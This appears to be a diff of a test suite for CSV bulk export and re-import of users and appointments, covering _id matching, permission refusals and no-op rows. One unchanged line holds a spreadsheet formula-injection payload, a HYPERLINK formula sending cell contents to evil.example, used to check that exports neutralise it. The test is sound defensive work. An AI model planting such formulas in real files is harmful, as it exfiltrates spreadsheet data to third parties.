@@ -342,11 +342,41 @@ describe('bulk imports', function () {
     const csv = await exported.text()
     assert.equal(csv.split('\n')[1], `${ids.omar},"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",omar@example.com`, 'the cell starts with an apostrophe')
     await server.app.service('users').patch(ids.omar, { Name: 'Omar' })
-    // The export's own cells, without its `_id` column (an import matches users by email and takes no id).
-    const record = await runImport('admin', 'users', csv.replace('_id,', '').replace(`${ids.omar},`, ''))
+    // The export as it is: its `_id` names the record.
+    const record = await runImport('admin', 'users', csv)
     assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 0], JSON.stringify(record.ErrorDetails))
     assert.equal((await server.app.service('users').get(ids.omar)).Name, name, 'the apostrophe the export added is taken off')
     await server.app.service('users').patch(ids.omar, { Name: 'Omar' })
+  })
+
+  it("an export imports back as it is: a row's _id names the record it patches (only what changed), the stamps are the engine's; an _id no record has, or one not the caller's, is refused", async () => {
+    const appointments = server.app.service('appointments')
+    const mine = await Promise.all(['2035-01-01', '2035-01-02'].map((day) => appointments.create({ ManagerId: ids.maria, AppointedDate: `${day}T09:00:00.000Z`, Attendees: [{ DeveloperId: ids.dev }] })))
+    await (appointments as any).respond({ id: mine[0]._id, Status: 'Accepted' }, { user: await server.app.service('users').get(ids.dev) })
+    const omars = await appointments.create({ ManagerId: ids.omar, AppointedDate: '2035-01-03T09:00:00.000Z' })
+    const exported = await fetch(`${server.url}/appointments?AppointedDate[$gte]=2035-01-01T00:00:00.000Z&AppointedDate[$lt]=2035-02-01T00:00:00.000Z&$sort[AppointedDate]=1`, { headers: { accept: 'text/csv', authorization: `Bearer ${tokens.maria}` } })
+    const lines = (await exported.text()).trim().split('\n')
+    assert.match(lines[0], /^_id,.*CreatedAt,UpdatedAt$/, lines[0])
+    assert.equal(lines.length, 3, 'her two appointments')
+    // She moves the second one, adds a row for a new one, and (from elsewhere) rows naming Omar's and no record.
+    const at = lines[0].split(',').indexOf('AppointedDate')
+    const moved = lines[2].replace('2035-01-02T09:00:00.000Z', '2035-01-09T09:00:00.000Z')
+    const cells = (id: string) => [id, ...lines[1].split(',').slice(1)].join(',')
+    const fresh = lines[0].split(',').map((name, index) => (name === 'ManagerId' ? ids.maria : index === at ? '2035-01-20T09:00:00.000Z' : '')).join(',')
+    const csv = [lines[0], lines[1], moved, cells(String(omars._id)), cells('0123456789abcdef01234567'), fresh].join('\n')
+    const before = await count('/appointments')
+    const answered = await appointments.get(mine[0]._id)
+    const record = await runImport('maria', 'appointments', csv)
+    assert.deepEqual([record.TotalRecords, record.SuccessRecords, record.ErrorRecords], [5, 3, 2], JSON.stringify(record.ErrorDetails))
+    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [4, 5])
+    assert.match(record.ErrorDetails[0].Error, /may not/i, "Omar's appointment is not hers to change")
+    assert.match(record.ErrorDetails[1].Error, /No record of appointments has the _id 0123456789abcdef01234567: a new record is imported without an _id/)
+    assert.equal(await count('/appointments'), before + 1, 'one new appointment; the exported ones were not imported again')
+    const [first, second] = await Promise.all(mine.map((a) => appointments.get(a._id)))
+    assert.equal(second.AppointedDate, '2035-01-09T09:00:00.000Z')
+    assert.equal(first.Attendees[0].Status, 'Accepted', "the developer's answer, exported and sent back as it was, stays")
+    assert.equal(first.UpdatedAt, answered.UpdatedAt, 'a row that changes nothing writes nothing')
+    assert.equal((await appointments.get(omars._id)).AppointedDate, '2035-01-03T09:00:00.000Z')
   })
 
   it('a key finds its record as the service spells it (emails lower-cased); the unchanged key is not patched, so a Manager updates her own profile', async () => {
